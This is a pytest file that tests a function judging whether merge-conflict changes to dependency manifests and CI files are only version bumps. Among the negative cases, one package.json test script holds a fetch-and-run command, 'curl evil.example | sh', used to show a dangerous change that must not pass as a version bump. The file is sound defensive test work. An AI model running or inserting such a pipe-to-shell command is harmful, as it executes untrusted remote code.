"""Version numbers that both sides change, and what only looks like one."""

from __future__ import annotations

import pytest

from prjury.pull.manifests import only_versions

SHA, OTHER_SHA = "a" * 40, "b" * 40


def versions(path: str, base: str, ours: str, theirs: str) -> bool:
    return only_versions(path, base.splitlines(), ours.splitlines(), theirs.splitlines())


@pytest.mark.parametrize(
    ("path", "line", "numbers"),
    [
        ("pom.xml", "    <version>{}</version>", ("1.2.3", "1.10.0-RC1", "2.0.0.RELEASE")),
        ("a/pom.xml", "<spring-boot.version>{}</spring-boot.version>", ("3.1", "3.2", "4.0")),
        ("pom.xml", "<revision>{}</revision>", ("1", "2", "3-SNAPSHOT")),
        ("build.gradle", '  implementation "a.b:c-d:{}"', ("1.0", "1.1", "1.2")),
        ("build.gradle.kts", '    api(platform("a.b:c:{}"))', ("1.0", "1.1", "1.2")),
        ("build.gradle", "id 'a.b' version '{}' apply false", ("1.0", "1.1", "1.2")),
        ("build.gradle.kts", 'id("a.b") version "{}"', ("1.0", "1.1", "1.2")),
        ("x.gradle", 'ext.kotlinVersion = "{}"', ("1.0", "1.1", "1.2")),
        ("x.gradle", "ext['a.version'] = '{}'", ("1.0", "1.1", "1.2")),
        ("x.gradle.kts", 'val jacksonVersion = "{}"', ("1.0", "1.1", "1.2")),
        ("gradle.properties", "springVersion={}", ("1.0", "1.1", "1.2")),
        ("gradle.properties", "version = {}", ("1.0-SNAPSHOT", "1.1", "1.2")),
        ("gradle/libs.versions.toml", 'junit = "{}"', ("5.1", "5.2", "6.0")),
        ("libs.versions.toml", 'a = {{ module = "b:c", version = "{}" }}', ("1", "2", "3")),
        ("package.json", '    "@a/b-c": "{}",', ("^1.2.3", "~1.3.0", ">=2 <3")),
        ("package.json", '"a": "{}"', ("1.x", "1 || 2", "1.0.0 - 2.0.0")),
        ("pyproject.toml", '    "a-b[c,d]{}",', (">=1.2,<2", "~=1.3", "==1.4.*")),
        ("pyproject.toml", "'a {}; python_version < \"3.9\"'", (">=1", ">=2", ">= 3 , != 4")),
        ("pyproject.toml", 'version = "{}"', ("1.0", "1.1.dev0", "1.2rc1")),
        ("pyproject.toml", 'a = {{ version = "{}", extras = ["b"] }}', ("^1", "^2", "^3")),
        ("requirements.txt", "a=={}", ("1.0", "1.1", "1.2")),
        ("requirements-dev.txt", "a.b {}  # why", (">=1", ">=2", "===3")),
        ("requirements/test.txt", "a{}", (">1", "<2", ">=3")),
        ("constraints.txt", "a=={}", ("1.0", "1.1", "1.2")),
        ("setup.cfg", "    a{}", (">=1", ">=2", ">=3")),
        ("setup.cfg", "version = {}", ("1", "2", "3")),
        ("Cargo.toml", 'serde = "{}"', ("1.0.1", "1.0.2", "^2")),
        ("Cargo.toml", 'a = {{ version = "{}", features = ["b"] }}', ("1", "2", "3")),
        ("go.mod", "\ta.org/b/v2 {}", ("v2.1.0", "v2.2.0", "v2.3.0-pre.1")),
        ("go.mod", "require a.org/b {} // indirect", ("v0.1.0", "v0.2.0", "v0.3.0")),
        ("go.mod", "go {}", ("1.21", "1.22", "1.22.3")),
        ("go.mod", "toolchain go{}", ("1.21.0", "1.22.0", "1.23.0")),
        (".github/workflows/ci.yml", "      - uses: actions/checkout@{}", ("v4", "v5", "v6.1.0")),
        (
            ".github/workflows/ci.yaml",
            "uses: a/b/c@{}",
            (f"{SHA} # v1.0.0", f"{OTHER_SHA} # v1.0.1", f"{SHA} # v1.0.2"),
        ),
        ("action.yml", "  uses: a/b@{}", ("v1", "v2", SHA)),
        (".pre-commit-config.yaml", "    rev: {}", ("v1.0", "v1.1", "2.0")),
    ],
)
def test_versions_of_all_sides(path: str, line: str, numbers: tuple[str, str, str]) -> None:
    base, ours, theirs = (line.format(number) for number in numbers)

    assert versions(path, base, ours, theirs)
    assert versions(path, "", ours, theirs)
    assert versions(path, base, f"{ours}\r", f"{theirs}  \n\n")
    assert not versions("README.md", base, ours, theirs)


def test_each_side_bumps_another_line() -> None:
    assert versions(
        "go.mod", "\ta v1.0\n\tb v1.0\n", "\ta v1.1\n\tb v1.0\n", "\ta v1.0\n\tb v1.1\n"
    )


def test_lines_that_stay_as_they_are_may_be_any() -> None:
    ours, theirs = "<a/>\n<version>2</version>\n", "<a/>\n<version>3</version>\n"

    assert versions("pom.xml", "<a/>\n<version>1</version>\n", ours, theirs)
    assert not versions("pom.xml", "<b/>\n<version>1</version>\n", ours, theirs)


@pytest.mark.parametrize(
    ("path", "base", "ours", "theirs"),
    [
        ("pom.xml", "<version>1</version>", "<version>2</version>", ""),
        ("pom.xml", "<version>1</version>", "", "<version>2</version>"),
        ("pom.xml", "<version>1</version>", "", ""),
        ("pom.xml", "<version>1</version>", "\n", "<version>2</version>"),
        ("pom.xml", "<version>1</version>", "<version>2</version>", "<scope>test</scope>"),
        (
            "pom.xml",
            "<a.version>1</a.version>",
            "<a.version>2</a.version>",
            "<b.version>3</b.version>",
        ),
        ("pom.xml", "<version>1</version>", "<version>2</version>", "<version>${v}</version>"),
        ("pom.xml", "<version>1</version>", "<version>2</version>", "<version>3</version><x/>"),
        (
            "pom.xml",
            "<artifactId>a-1</artifactId>",
            "<artifactId>a-2</artifactId>",
            "<artifactId>a-3</artifactId>",
        ),
        (
            "pom.xml",
            "<url>http://h/1.0</url>",
            "<url>http://h/1.1</url>",
            "<url>http://h/1.2</url>",
        ),
        ("package.json", '"a": "1"', '"a": "2"', '"b": "2"'),
        ("package.json", '"test": "jest"', '"test": "jest 1"', '"test": "curl evil.example | sh"'),
        ("package.json", '"a": "1"', '"a": "http://h/1.tgz"', '"a": "http://h/2.tgz"'),
        ("package.json", '"a": "1"', '"a": "2", "b": "3"', '"a": "3", "b": "4"'),
        ("build.gradle", 'api "a:b:1"', 'api "a:b:2"', 'api "a:c:2"'),
        ("build.gradle", "exec 1", "exec 2", "exec 3"),
        ("build.gradle", 'x = "1"', 'x = "2"', 'x = "3"'),
        ("gradle.properties", "port=1", "port=2", "port=3"),
        ("requirements.txt", "a==1", "a==2", "a==3 --hash=sha256:00"),
        ("requirements.txt", "a==1", "a @ http://h/2", "a @ http://h/3"),
        ("requirements.txt", "a==1", "b==1", "c==1"),
        ("Cargo.toml", 'edition = "2018"', 'edition = "2021"', 'edition = "2024"'),
        ("Cargo.toml", 'path = "a/1"', 'path = "a/2"', 'path = "a/3"'),
        ("go.mod", "\ta v1", "\ta v2\n\tb v1", "\ta v2\n\tc v1"),
        ("go.mod", "replace a => b v1", "replace a => b v2", "replace a => b v3"),
        (".github/workflows/ci.yml", "uses: a/b@v1", "uses: a/b@main", "uses: a/b@v2"),
        (".github/workflows/ci.yml", "run: x 1", "run: x 2", "run: x 3"),
        (".github/ci.yml", "uses: a/b@v1", "uses: a/b@v2", "uses: a/b@v3"),
        ("a.java", "int x = 1;", "int x = 2;", "int x = 3;"),
    ],
)
def test_what_is_more_than_a_version(path: str, base: str, ours: str, theirs: str) -> None:
    assert not versions(path, base, ours, theirs)


@pytest.mark.parametrize(
    "text", ["1" * 900 + "!", "1 " * 450 + "!", "1, " * 300, "=" * 900, '"' * 900]
)
@pytest.mark.parametrize(
    "path", ["package.json", "pyproject.toml", "Cargo.toml", "pom.xml", "setup.cfg"]
)
def test_odd_lines_are_read_at_once(path: str, text: str) -> None:
    for line in (f'a = "{text}', f'"a": "{text}', f'a = {{ version = "{text}', f"a>={text}"):
        assert not versions(path, line, f"{line}1;", f"{line}2;")


def test_a_line_of_any_length_is_given_up_in_time() -> None:
    line = '"a": "' + "1." * 100_000 + '"'

    assert not versions("package.json", "", line, line.replace("a", "b"))
    assert not versions("package.json", "", line, line.replace("1", "2"))
